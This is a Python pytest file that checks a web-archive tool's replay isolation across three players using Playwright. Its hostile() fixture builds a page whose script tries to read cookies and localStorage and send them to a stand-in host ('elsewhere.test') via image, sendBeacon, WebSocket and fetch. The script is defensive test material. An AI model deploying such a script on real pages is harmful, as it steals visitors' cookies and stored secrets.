"""One archive, captured for real, in three players: our safe replay, pywb over our endpoint, replayweb.page."""

from __future__ import annotations

import json
import re
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Frame, Page

from tests.browser import Visitor
from tests.crawl_home import Home
from tests.players import PATIENCE, free_port, running
from tests.wire.cases import Case, Segment, answer, one, robots
from tests.wire.server import WireServer

STORY = "http://blog.test/"
HOSTILE = "http://blog.test/hostile"
COLOUR = "rgb(1, 87, 155)"
WIDTH, HEIGHT = 7, 5
WORDS = "The sluice gate of Marrow Lock stays shut until spring."
ETAG = b'ETag: "gate-1"'
SECRET = "the-room-s-own"


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = (b"\0" + b"\x20\x40\x60" * WIDTH) * HEIGHT
    head = struct.pack(">IIBBBBB", WIDTH, HEIGHT, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def story() -> bytes:
    filler = "".join(f"<p>Paragraph {number} of the story, which goes on for a while.</p>" for number in range(30))
    return (
        '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>The gate stays shut</title>'
        '<link rel="stylesheet" href="/style.css"></head><body><article><h1>The gate stays shut</h1>'
        f'<p id="text">{WORDS}</p><img id="picture" src="http://pictures.test/gate.png" alt="The gate">{filler}'
        "</article></body></html>"
    ).encode()


def hostile(room: str) -> bytes:
    """Give a page that tries all it can to read the room, and notes in itself what it got."""
    script = """
const got = {}, note = (name, value) => {
  got[name] = String(value);
  document.documentElement.setAttribute('data-got', JSON.stringify(got));
};
const attempt = (name, act) => { try { note(name, act()); } catch (error) { note(name + ' refused', error.name); } };
note('ran', 'yes');
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.getItem('secret'));
attempt('parent', () => parent !== window && parent.document.title);
attempt('top', () => top !== window && top.document.cookie);
attempt('frame', () => {
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.src = ROOM + '/';
  frame.onload = () => attempt('framed', () => frame.contentDocument && frame.contentDocument.title);
});
attempt('image', () => { new Image().src = 'http://elsewhere.test/image.png?' + document.cookie; return 'asked'; });
attempt('beacon', () => navigator.sendBeacon('http://elsewhere.test/beacon', document.cookie));
attempt('socket', () => { new WebSocket('ws://elsewhere.test/socket'); return 'asked'; });
for (const path of ['/', '/cdx?url=http://blog.test/', '/timemap/link/http://blog.test/']) {
  fetch(ROOM + path, {credentials: 'include'}).then(answer => answer.text()).then(
    text => note('fetch ' + path, text.slice(0, 200)), error => note('fetch ' + path + ' refused', error.name));
}
fetch('http://elsewhere.test/fetch').then(() => note('elsewhere', 'answered'), () => note('elsewhere refused', ''));
""".replace("ROOM", json.dumps(room))
    return (
        '<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title>'
        '<link rel="stylesheet" href="http://elsewhere.test/style.css">'
        '<link rel="prefetch" href="http://elsewhere.test/prefetch">'
        '<meta http-equiv="refresh" content="3600; url=http://elsewhere.test/refresh"></head>'
        "<body onload=\"document.documentElement.setAttribute('data-loaded', 'yes')\"><p id=\"text\">Hostile</p>"
        f'<img src="http://elsewhere.test/plain.png"><img src="{room}/cdx?url=http://blog.test/">'
        f'<script>{script}</script><iframe src="http://elsewhere.test/frame"></iframe></body></html>'
    ).encode()


@dataclass(frozen=True, slots=True, kw_only=True)
class Archive:
    """An archive with its server at work. ``times`` are the 14 digits of the story's
    captures: one whole, one of the same bytes, one a 304."""

    home: Home
    port: int
    replay_port: int
    site: WireServer
    times: tuple[str, ...]
    hostile: str

    @property
    def room(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def replay(self) -> str:
        return f"http://127.0.0.1:{self.replay_port}"


def captures(home: Home, url: str) -> list[dict[str, Any]]:
    done = home.call("captures", "--json", url)
    assert done.returncode == 0, done.stderr
    return [json.loads(line) for line in done.stdout.splitlines()]


def digits(at: str) -> str:
    return re.sub(r"[^0-9]", "", at)[:14]


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Archive]:
    folder = tmp_path_factory.mktemp("players")
    port, replay_port = free_port(), free_port()
    html = b"Content-Type: text/html; charset=utf-8"
    same = answer(ETAG, status=b"HTTP/1.1 304 Not Modified", length=False)
    cases = [
        Case(name="", segments=(Segment(data=answer(html, ETAG, body=story())),), not_modified=same),
        one("style.css", answer(b"Content-Type: text/css", body=f"h1 {{ color: {COLOUR} }}\n".encode())),
        one("gate.png", answer(b"Content-Type: image/png", body=png())),
        one("hostile", answer(html, body=hostile(f"http://127.0.0.1:{port}"))),
        robots("blog.test"),
    ]
    with WireServer(cases) as site, ExitStack() as stack:
        hosts = dict.fromkeys(("blog.test", "pictures.test"), site.netloc)
        settings = (f"serve.port={port}", f"serve.replay_port={replay_port}", "crawl.full_fetch_share=0")
        home = Home(folder / "press", hosts, settings=settings)
        home.site("blog-test", f'url = "{STORY}"\n')
        # The first crawl gets the same bytes again, the second a 304.
        crawl = ("crawl", "blog-test")
        for words in (("capture", "--requisites", STORY), ("capture", HOSTILE), crawl, crawl):
            done = home.call(*words)
            assert done.returncode == 0, done.stdout + done.stderr
        told = captures(home, STORY)
        assert [(each["kind"], each["status"]) for each in told] == [
            ("response", 200),
            ("revisit", 200),
            ("revisit", 304),
        ]
        (bad,) = captures(home, HOSTILE)
        stack.enter_context(running(home.command("serve"), port, folder / "serve.log", **home.env))
        yield Archive(
            home=home,
            port=port,
            replay_port=replay_port,
            site=site,
            times=tuple(digits(each["at"]) for each in told),
            hostile=digits(bad["at"]),
        )


@pytest.fixture(scope="module")
def pywb_origin(archive: Archive, wayback: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Run pywb by our own verb, beside the server that runs already; gives the address of its collection."""
    port, told = free_port(), tmp_path_factory.mktemp("pywb") / "told"
    command = archive.home.command("replay", "--run", "--pywb", str(wayback), "--port", str(port))
    with running(command, port, told, **archive.home.env):
        yield announced(told)


@pytest.fixture(scope="module")
def player_origin(
    archive: Archive, replaywebpage_files: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """Export a WACZ and show it by our own verb."""
    folder = tmp_path_factory.mktemp("player")
    package = folder / "press.wacz"
    done = archive.home.call("export", "wacz", "--all", str(package))
    assert done.returncode == 0, done.stdout + done.stderr
    port = free_port()
    command = archive.home.command("replay", str(package), "--player", str(replaywebpage_files), "--port", str(port))
    with running(command, port, folder / "told", **archive.home.env):
        yield announced(folder / "told")


def announced(told: Path) -> str:
    """Wait until a verb says where its player is; give the address without its final slash."""
    end = time.monotonic() + PATIENCE
    while time.monotonic() < end:
        if found := re.search(r" at (http://\S+?)/(?:;|$)", told.read_text(), re.MULTILINE):
            return found[1]
        time.sleep(0.05)
    raise AssertionError(told.read_text())


# ---- each player gives the frame that holds the archived page


def frame_at(page: Page, ending: str) -> Frame:
    """Wait until a frame of the page is at an address that ends so, and loaded."""
    end = time.monotonic() + PATIENCE
    while time.monotonic() < end:
        for frame in page.frames:
            if frame.url.endswith(ending):
                frame.wait_for_load_state("load")
                return frame
        page.wait_for_timeout(50)
    raise AssertionError(f"no frame at {ending}; there are {[frame.url for frame in page.frames]}")


Show = Callable[[Visitor, str, str], Frame]


@pytest.fixture(params=["safe replay", "pywb", "replayweb.page"])
def show(request: pytest.FixtureRequest, archive: Archive) -> Show:
    """Give what opens a capture in one of the players: of a URL at a time."""
    if request.param == "safe replay":
        return lambda visitor, at, url: opened(
            visitor, f"{archive.room}/web/{at}/{url}", f"{archive.replay}/{at}/{url}"
        )
    if request.param == "pywb":
        pywb: str = request.getfixturevalue("pywb_origin")
        return lambda visitor, at, url: opened(visitor, f"{pywb}/{at}/{url}", f"{pywb}/{at}mp_/{url}")
    player: str = request.getfixturevalue("player_origin")
    return lambda visitor, at, url: opened(
        visitor, f"{player}/#view=pages&url={quote(url, safe='')}&ts={at}", f"/{at}mp_/{url}"
    )


def opened(visitor: Visitor, address: str, ending: str) -> Frame:
    page = visitor.page()
    page.goto(address)
    return frame_at(page, ending)


def test_text_style_and_picture_of_a_page_are_shown(archive: Archive, show: Show, visitor: Visitor) -> None:
    assert_shows_the_story(show(visitor, archive.times[0], STORY))


def test_a_304_shows_the_body_of_its_original_at_its_own_time(archive: Archive, show: Show, visitor: Visitor) -> None:
    # The address that is waited for holds the time of the 304.
    assert_shows_the_story(show(visitor, archive.times[2], STORY))


def assert_shows_the_story(frame: Frame) -> None:
    frame.wait_for_selector("#text")
    assert frame.inner_text("#text") == WORDS
    picture = frame.wait_for_selector("#picture")
    assert picture is not None
    frame.wait_for_function("document.querySelector('#picture').complete")
    assert frame.evaluate("document.querySelector('#picture').naturalWidth") == WIDTH
    assert frame.evaluate("getComputedStyle(document.querySelector('h1')).color") == COLOUR


# ---- a page that tries all it can


def got(frame: Frame) -> dict[str, str] | None:
    """Give what the hostile page's script noted, None where it did not run."""
    noted = frame.evaluate("document.documentElement.getAttribute('data-got')")
    return json.loads(noted) if noted is not None else None


def wait_for_its_answers(frame: Frame) -> None:
    """Wait until each request of the script ended, one way or the other."""
    frame.wait_for_function("""() => {
      const noted = JSON.parse(document.documentElement.getAttribute('data-got') || '{}');
      return Object.keys(noted).filter(key => key.startsWith('fetch ') || key.startsWith('elsewhere')).length === 4;
    }""")


def furnish(archive: Archive, visitor: Visitor) -> None:
    """Put something worth reading into the room's own storage."""
    room = visitor.page()
    room.goto(f"{archive.room}/")
    room.evaluate(f"localStorage.setItem('secret', '{SECRET}')")
    room.evaluate(f"document.cookie = 'secret={SECRET}'")
    room.close()


def test_the_hostile_page_does_all_that_when_nobody_stops_it(archive: Archive, visitor: Visitor) -> None:
    page = visitor.page()
    page.goto(f"http://{archive.site.netloc}/hostile")
    wait_for_its_answers(page.main_frame)

    assert page.main_frame.get_attribute("html", "data-loaded") == "yes"
    noted = got(page.main_frame)
    assert noted is not None
    assert noted["ran"] == "yes"
    asked = " ".join(visitor.left)
    for what in ("image.png", "beacon", "fetch", "style.css", "plain.png", "frame"):
        assert f"http://elsewhere.test/{what}" in asked
    assert "CONNECT elsewhere.test:80" in asked
    visitor.trap.asked.clear()


def test_a_script_does_not_run_in_safe_replay_and_nothing_is_asked_elsewhere(
    archive: Archive, visitor: Visitor
) -> None:
    furnish(archive, visitor)
    before = len(visitor.requests)
    frame = opened(
        visitor, f"{archive.room}/web/{archive.hostile}/{HOSTILE}", f"{archive.replay}/{archive.hostile}/{HOSTILE}"
    )

    assert frame.inner_text("#text") == "Hostile"
    assert got(frame) is None
    assert frame.get_attribute("html", "data-loaded") is None
    asked = [url for url in visitor.requests[before:] if url.startswith(f"{archive.room}/")]
    assert [url for url in asked if "/cdx" in url or "/timemap" in url] == []
    assert visitor.foreign == []


def test_a_script_in_an_archived_page_by_itself_does_not_run_either(archive: Archive, visitor: Visitor) -> None:
    furnish(archive, visitor)
    for modifier in ("", "id_", "if_"):
        page = visitor.page()
        page.goto(f"{archive.replay}/{archive.hostile}{modifier}/{HOSTILE}")
        assert got(page.main_frame) is None
        assert page.evaluate("origin") == "null"
    assert visitor.left == []


@pytest.mark.parametrize("name", ["pywb", "replayweb.page"])
def test_a_script_that_runs_in_a_player_of_others_reads_nothing_of_the_room(
    archive: Archive, name: str, visitor: Visitor, request: pytest.FixtureRequest
) -> None:
    furnish(archive, visitor)
    if name == "pywb":
        pywb: str = request.getfixturevalue("pywb_origin")
        frame = opened(visitor, f"{pywb}/{archive.hostile}/{HOSTILE}", f"{pywb}/{archive.hostile}mp_/{HOSTILE}")
    else:
        player: str = request.getfixturevalue("player_origin")
        address = f"{player}/#view=pages&url={quote(HOSTILE, safe='')}&ts={archive.hostile}"
        frame = opened(visitor, address, f"/{archive.hostile}mp_/{HOSTILE}")
    wait_for_its_answers(frame)

    noted = got(frame)
    assert noted is not None
    assert (noted["ran"], noted["cookie"], noted["storage"]) == ("yes", "", "null")
    assert SECRET not in json.dumps(noted)
    assert "test,blog)" not in json.dumps(noted)
